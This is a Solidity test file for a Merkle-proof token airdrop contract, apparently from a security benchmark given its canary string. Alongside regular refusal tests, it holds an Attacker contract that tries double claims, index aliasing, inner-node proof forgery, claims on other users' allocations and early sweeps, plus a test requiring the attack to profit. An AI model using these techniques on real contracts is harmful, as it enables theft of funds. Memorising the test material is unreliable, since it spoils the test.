// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./TokenAirdrop.sol";

// assay-canary-d2e86b67-77b8-491f-9383-56c6e033d8f5

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
}

contract Coin is ERC20 {
    address private immutable _minter = msg.sender;

    constructor() ERC20("Coin", "COIN") {}

    function mint(address to, uint256 n) external {
        require(msg.sender == _minter);
        _mint(to, n);
    }
}

contract Attacker {
    TokenAirdrop internal d;
    bytes32[] internal p1;
    bytes32[] internal p2;
    bytes32 internal left;
    bytes32 internal right;

    function learn(TokenAirdrop d_, bytes32[] memory a, bytes32[] memory b, bytes32 l, bytes32 r) external {
        d = d_;
        p1 = a;
        p2 = b;
        left = l;
        right = r;
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(d).call(data);
    }

    function run() external {
        // one's own leaves, in turns
        for (uint256 k; k < 4; ++k) {
            _try(abi.encodeCall(d.claim, (1, address(this), 10 ether, p1)));
            _try(abi.encodeCall(d.claimTo, (2, 10 ether, address(this), p2)));
        }
        TokenAirdrop.Item[] memory x = new TokenAirdrop.Item[](2);
        x[0] = TokenAirdrop.Item(1, address(this), 10 ether, p1);
        x[1] = TokenAirdrop.Item(2, address(this), 10 ether, p2);
        _try(abi.encodeCall(d.claimMany, (x)));
        // other indexes, other amounts
        _try(abi.encodeCall(d.claim, (257, address(this), 10 ether, p1)));
        _try(abi.encodeCall(d.claim, (1 | (1 << 255), address(this), 10 ether, p1)));
        _try(abi.encodeCall(d.claim, (4, address(this), 10 ether, p1)));
        _try(abi.encodeCall(d.claim, (1, address(this), 100 ether, p1)));
        // inner nodes, and no proof
        bytes32[] memory none = new bytes32[](0);
        bytes32[] memory one = new bytes32[](1);
        one[0] = right;
        _try(abi.encodeCall(d.claim, (uint256(left), address(this), uint256(right), none)));
        _try(abi.encodeCall(d.claimTo, (uint256(left), uint256(right), address(this), one)));
        _try(abi.encodeCall(d.claimTo, (uint256(d.root()), 100 ether, address(this), none)));
        // other people's
        _try(abi.encodeCall(d.claimTo, (0, 500 ether, address(this), p1)));
        _try(abi.encodeCall(d.claimTo, (3, 480 ether, address(this), p2)));
        _try(abi.encodeCall(d.sweep, (address(this))));
    }

    function late() external {
        _try(abi.encodeCall(d.claim, (1, address(this), 10 ether, p1)));
        _try(abi.encodeCall(d.sweep, (address(this))));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address private constant A = address(0xA11A);
    address private constant B = address(0xBE17);
    address private constant C = address(0xC1E0);

    Coin public coin;
    TokenAirdrop private d;
    Attacker private z;
    bytes32[] private l;
    bytes32 private h01;
    bytes32 private h23;

    function _pair(bytes32 a, bytes32 b) private pure returns (bytes32) {
        return a < b ? keccak256(abi.encode(a, b)) : keccak256(abi.encode(b, a));
    }

    function _leaf(uint256 i, address a, uint256 n) private pure returns (bytes32) {
        return keccak256(abi.encode(keccak256(abi.encode(i, a, n))));
    }

    function _proof(uint256 i) private view returns (bytes32[] memory p) {
        p = new bytes32[](2);
        p[0] = l[i ^ 1];
        p[1] = i < 2 ? h23 : h01;
    }

    function setUp() public {
        vm.warp(1_795_000_000);
        coin = new Coin();
        z = new Attacker();
        l.push(_leaf(0, A, 500 ether));
        l.push(_leaf(1, address(z), 10 ether));
        l.push(_leaf(2, address(z), 10 ether));
        l.push(_leaf(3, B, 480 ether));
        h01 = _pair(l[0], l[1]);
        h23 = _pair(l[2], l[3]);
        d = new TokenAirdrop(coin, _pair(h01, h23), 30 days);
        coin.mint(address(d), 1000 ether);
        z.learn(d, _proof(1), _proof(2), h01, h23);
    }

    function test_Regular() public {
        require(d.leaf(0, A, 500 ether) == l[0] && address(d.token()) == address(coin), "leaf");
        d.claim(0, A, 500 ether, _proof(0));
        require(coin.balanceOf(A) == 500 ether && d.claimed(0) && !d.claimed(3) && !d.claimed(256), "claimed");
        vm.prank(B);
        d.claimTo(3, 480 ether, C, _proof(3));
        require(coin.balanceOf(C) == 480 ether && coin.balanceOf(B) == 0 && d.claimed(3), "to");
        TokenAirdrop.Item[] memory x = new TokenAirdrop.Item[](1);
        x[0] = TokenAirdrop.Item(1, address(z), 10 ether, _proof(1));
        d.claimMany(x);
        require(coin.balanceOf(address(z)) == 10 ether && d.claimed(1) && !d.claimed(2), "many");
        vm.warp(d.end());
        d.sweep(address(this));
        require(coin.balanceOf(address(this)) == 10 ether && coin.balanceOf(address(d)) == 0, "swept");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesSetup() public {
        vm.expectRevert(TokenAirdrop.BadSetup.selector);
        new TokenAirdrop(IERC20(address(0)), l[0], 30 days);
        vm.expectRevert(TokenAirdrop.BadSetup.selector);
        new TokenAirdrop(coin, 0, 30 days);
        vm.expectRevert(TokenAirdrop.BadSetup.selector);
        new TokenAirdrop(coin, l[0], 7 days - 1);
        vm.expectRevert(TokenAirdrop.BadSetup.selector);
        new TokenAirdrop(coin, l[0], 365 days + 1);
    }

    function test_RefusesNobody() public {
        vm.prank(A);
        vm.expectRevert(TokenAirdrop.Denied.selector);
        d.claimTo(0, 500 ether, address(0), _proof(0));
    }

    function test_RefusesTwice() public {
        d.claim(0, A, 500 ether, _proof(0));
        vm.expectRevert(TokenAirdrop.Used.selector);
        d.claim(0, A, 500 ether, _proof(0));
    }

    function test_RefusesUnknown() public {
        vm.prank(C);
        vm.expectRevert(TokenAirdrop.Unknown.selector);
        d.claimTo(0, 500 ether, C, _proof(0));
        vm.expectRevert(TokenAirdrop.Unknown.selector);
        d.claim(0, A, 501 ether, _proof(0));
    }

    function test_RefusesLate() public {
        vm.warp(d.end());
        vm.expectRevert(TokenAirdrop.Over.selector);
        d.claim(0, A, 500 ether, _proof(0));
    }

    function test_RefusesSweeping() public {
        vm.expectRevert(TokenAirdrop.Running.selector);
        d.sweep(address(this));
        vm.warp(d.end());
        vm.prank(C);
        vm.expectRevert(TokenAirdrop.Denied.selector);
        d.sweep(C);
    }

    function exploit() public {
        z.run();
        vm.warp(block.timestamp + 31 days);
        z.late();
    }

    function test_Exploit() public {
        uint256 n = coin.balanceOf(address(z));
        exploit();
        require(coin.balanceOf(address(z)) >= n + 60 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(d);
    }

    function attacker() public view returns (address) {
        return address(z);
    }
}
